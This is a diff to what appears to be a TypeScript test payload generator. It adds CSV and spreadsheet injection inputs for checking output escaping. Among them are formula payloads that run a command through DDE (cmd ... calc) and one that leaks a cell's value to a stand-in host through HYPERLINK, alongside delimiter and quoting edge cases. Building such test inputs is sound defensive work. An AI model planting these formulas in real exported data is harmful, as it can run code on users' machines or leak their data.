@@ -339,6 +339,32 @@ export const HTML_ATTACKS: readonly Kind[] = [
   ['spaces', (pick) => pick(['  a', 'a  b', 'a\t', '\n', '\r\n', '\f<b>', '\u00a0'])],
 ]
 
+/** What a text can be to a spreadsheet and to a reader of comma-separated values. */
+export const CSV_ATTACKS: readonly Kind[] = [
+  [
+    'formulas',
+    (pick) =>
+      `${pick(['=', '+', '-', '@', '＝', '＋', '－', '＠'])}${pick(['1+2', "cmd|' /C calc'!A0", 'HYPERLINK("//e.example?"&A1,"a")', 'SUM(1;2)', 'IMPORTXML(A1,"//a")', '-1', ''])}`,
+  ],
+  [
+    'formulas behind what a reader may leave out',
+    (pick) =>
+      `${pick([' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\ufeff', '\0', "'", "''", '"', "' "])}${pick(['=', '+', '-', '@', '＝'])}1`,
+  ],
+  [
+    'ends of cells and rows',
+    (pick) =>
+      `a${pick([',', ';', '|', '\t', '\n', '\r', '\r\n', '","', '"\r\n"', '\u2028'])}${pick(['=1', '-1', 'b', ''])}`,
+  ],
+  ['quotes', (pick) => pick(['"', '""', '"a"', 'a"b', '"a', "'", '\\"', '“a”', '",', ',"'])],
+  ['spaces', (pick) => pick([' ', '  a', 'a ', '\n', '\r', '\r\n\r\n', '\t', '\u00a0'])],
+  [
+    'numbers, days and other readings',
+    (pick) =>
+      pick(['1e5', '0012', '1-2', '2021-09-18', 'TRUE', 'NULL', '#REF!', 'sep=;', '1,000', '\\N']),
+  ],
+]
+
 /** So many payloads of these kinds, one or three of them each, between words of their own; the same for the same seed. */
 export function payloads(kinds: readonly Kind[], count: number, seed: number): string[] {
   const random = seeded(seed)
